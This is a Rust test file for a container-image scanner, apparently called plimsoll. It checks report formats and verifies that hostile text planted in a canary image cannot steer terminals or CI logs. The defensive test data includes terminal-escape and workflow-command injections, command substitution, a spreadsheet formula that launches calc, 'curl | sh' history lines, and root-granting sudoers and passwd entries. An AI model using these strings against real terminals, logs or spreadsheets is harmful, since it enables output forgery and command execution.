//! What comes out: gaps that cannot be missed, several reports at once, and nothing of an image that steers a reader.

use super::demo;
use super::image::{Layer, Stored, archive, plain};
use super::run::{Ran, plimsoll};
use plimsoll::model::is_unsafe;
use serde_json::{Value, json};
use std::fs;
use std::path::Path;

fn demo_path() -> String {
    demo::path().display().to_string()
}

#[test]
fn what_is_not_looked_at_is_no_pass() {
    let path = demo_path();
    for (gate, code) in [("never", 3), ("high", 1), ("critical", 3)] {
        let ran = plimsoll(&["--no-content", "-o", "json", "--fail-on", gate, &path]);
        assert_eq!((ran.disorder(), ran.code), (None, code), "{gate}");
        assert!(ran.gaps().iter().any(|gap| gap.contains("--no-content")), "{:?}", ran.gaps());
    }
    let quiet = plimsoll(&["--no-content", "--quiet", "--only", "no-such-group-is-needed", &path]);
    assert_eq!(quiet.code, 2);
    let quiet = plimsoll(&["--no-content", "--quiet", "--only", "eol-distribution", &path]);
    assert_eq!((quiet.code, quiet.stderr.as_str()), (3, ""));
    assert!(quiet.text().contains("Not looked at"), "{}", quiet.text());
}

#[test]
fn several_reports_at_once() {
    let place = tempfile::tempdir().unwrap();
    let to = |name: &str| place.path().join(name).display().to_string();
    let path = demo_path();
    let outputs = [format!("json={}", to("r.json")), format!("sarif={}", to("r.sarif")), "terminal".to_owned()];
    let args: Vec<&str> = outputs.iter().flat_map(|output| ["-o", output]).chain([path.as_str()]).collect();
    let all = plimsoll(&args);
    assert_eq!((all.code, all.stderr.as_str()), (1, ""));
    for (format, seen) in [
        ("json", fs::read(place.path().join("r.json")).unwrap()),
        ("sarif", fs::read(place.path().join("r.sarif")).unwrap()),
        ("terminal", all.stdout.clone()),
    ] {
        assert!(plimsoll(&["-o", format, &path]).stdout == seen, "{format}");
    }
    let log: Value = serde_json::from_slice(&fs::read(place.path().join("r.sarif")).unwrap()).unwrap();
    valid(&log);
    let report = all_findings(&plimsoll(&["-o", "json", &path]));
    assert_eq!(log["runs"][0]["results"].as_array().unwrap().len(), report);
    // A report that cannot be written takes nothing from the others.
    let unwritable = format!("json={}", place.path().join("no/such/folder").display());
    let ran = plimsoll(&["-o", &unwritable, "-o", "sarif", &path]);
    assert_eq!(ran.code, 2);
    assert!(ran.stderr.starts_with("error: ") && ran.stderr.contains("no/such/folder"), "{}", ran.stderr);
    valid(&serde_json::from_slice(&ran.stdout).unwrap());
}

fn all_findings(ran: &Ran) -> usize {
    ran.json()["images"][0]["findings"].as_array().unwrap().len()
}

/// By the official schema of SARIF.
fn valid(log: &Value) {
    let schema = super::sarif_schema::official();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator.iter_errors(log).map(|it| format!("{}: {it}", it.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}");
}

/// Texts that steer a terminal, forge a line, command a workflow's log, or are markup.
const HOSTILE: &[&str] = &[
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "a\nerror: forged",
    "a\r\n::error::forged",
    "::error file=x::forged",
    "a ##[add-mask]x",
    "\u{9b}31m\u{202e}gpj.exe\u{2066}",
    "<script>alert(1)</script>",
    "](javascript:alert(1))",
    "`$(touch x)`",
    "\u{2028}\u{200b}\u{e0041}",
    "%0A::warning::x",
    "=cmd|' /C calc'!A0",
];

/// An image that says these things in every place that a report quotes.
fn canary(stored: Stored) -> Vec<u8> {
    let mut layer = Layer::default();
    for (index, text) in HOSTILE.iter().enumerate() {
        layer.file(format!("opt/{text}"), 0o4755, "x");
        layer.file(format!("opt/{index}/{text}/.git/HEAD"), 0o644, "ref: refs/heads/main\n");
        layer.file(format!("opt/{index}/.aws/credentials-{text}"), 0o666, "x");
    }
    layer.file(b"opt/\xff\xfe\x1b[2J", 0o4755, "x");
    let rows = |row: fn(&str) -> String| HOSTILE.iter().map(|text| row(text)).collect::<Vec<_>>().join("\n");
    let sudoers = rows(|text| format!("{} ALL=(ALL) NOPASSWD: ALL", text.replace('\n', "")));
    layer.file("etc/sudoers", 0o440, sudoers);
    let passwd = rows(|text| format!("{}::0:0::/:/bin/sh", text.replace(['\n', ':'], "")));
    layer.file("etc/passwd", 0o644, passwd);
    let all = HOSTILE.join(" ");
    let mut image = plain(vec![layer.tar()]);
    image.tags = HOSTILE.iter().map(|text| format!("{text}:latest")).collect();
    let exposed: Value =
        HOSTILE.iter().map(|text| (format!("22/{text}"), json!({}))).collect::<serde_json::Map<_, _>>().into();
    let volumes: Value =
        HOSTILE.iter().map(|text| (format!("/etc/{text}"), json!({}))).collect::<serde_json::Map<_, _>>().into();
    image.config["config"] = json!({
        "User": HOSTILE[0],
        "Env": HOSTILE.iter().map(|text| format!("{}_PASSWORD=Gr0ssbaum-{text}", text.replace('=', ""))).collect::<Vec<_>>(),
        "Entrypoint": ["/bin/sh", "-c", all],
        "Cmd": HOSTILE,
        "ExposedPorts": exposed,
        "Volumes": volumes,
        "StopSignal": all,
        "Healthcheck": {"Test": ["CMD", all]},
        "Labels": {"org.opencontainers.image.base.name": all, all.clone(): all},
    });
    image.config["created"] = json!(all);
    image.config["os"] = json!(format!("linux{}", HOSTILE[0]));
    let history: Vec<Value> = HOSTILE
        .iter()
        .map(|text| json!({"created_by": format!("RUN curl http://x/{text} | sh"), "comment": text, "empty_layer": true}))
        .chain([json!({"created_by": format!("RUN /bin/sh -c sudo {all}")})])
        .collect();
    image.config["history"] = json!(history);
    archive(&image.docker(stored))
}

/// A workflow's log takes commands at the start of a line, blanks before it or not, and the older ones anywhere.
fn commands(line: &str) -> bool {
    line.trim_start().starts_with("::") || line.contains("##[")
}

#[test]
fn nothing_of_an_image_steers_its_reader() {
    let place = tempfile::tempdir().unwrap();
    let path = place.path().join("canary.tar");
    fs::write(&path, canary(Stored::Plain)).unwrap();
    let path = path.display().to_string();
    let broken = place.path().join("a\u{1b}[2J\n::error::x.tar");
    fs::write(&broken, "no image").unwrap();
    let broken = broken.display().to_string();
    let runs: &[&[&str]] = &[
        &["-o", "json", &path],
        &["-o", "sarif", &path],
        &["-o", "terminal", &path],
        &["-v", "--level", "auditor", "-o", "terminal", &path],
        &["--color", "always", "-o", "terminal", &path],
        &["files", &path],
        &["files", "--entries", &path],
        &["files", "--removed", &path],
        &["--tag", HOSTILE[1], &path],
        &["--platform", HOSTILE[0], &path],
        &[&broken, &path],
        &["files", &broken],
        &["explain", HOSTILE[1]],
        &["--only", HOSTILE[0], &path],
        &["--rules", &broken, &path],
        &["rules", "check", &broken],
        &["-o", HOSTILE[1], &path],
    ];
    let mut findings = 0;
    for args in runs {
        let ran = plimsoll(args);
        assert!((0..=3).contains(&ran.code), "{args:?}: {ran:?}");
        let own_colour = args.contains(&"always");
        for text in [ran.text(), &ran.stderr] {
            let text = if own_colour { without_colour(text) } else { text.to_owned() };
            let bad = text.lines().find(|line| line.contains(is_unsafe) || commands(line));
            assert_eq!(bad, None, "{args:?}");
        }
        if args.contains(&"sarif") {
            valid(&serde_json::from_str(ran.text()).unwrap());
        }
        if args[..2] == ["-o", "json"] {
            findings = all_findings(&ran);
        }
    }
    // There is something to show.
    assert!(findings > HOSTILE.len() * 3, "{findings}");
}

/// Without the colours that the program itself writes: `ESC [ digits m`.
fn without_colour(text: &str) -> String {
    let mut parts = text.split("\u{1b}[");
    let mut out = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let (code, rest) = part.split_once('m').unwrap_or_else(|| panic!("no colour: {part:?}"));
        assert!(code.bytes().all(|b| b.is_ascii_digit() || b == b';'), "no colour: {code:?}");
        out.push_str(rest);
    }
    out
}

#[test]
fn the_readme_tells_the_truth() {
    let readme = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    assert!(readme.contains("cargo run --release -- testdata/demo.tar"));
    let links = readme.split("](").skip(1).filter_map(|rest| rest.split(')').next());
    for link in links.filter(|link| !link.contains("://")) {
        assert!(Path::new(env!("CARGO_MANIFEST_DIR")).join(link).exists(), "{link} is not there");
    }
}
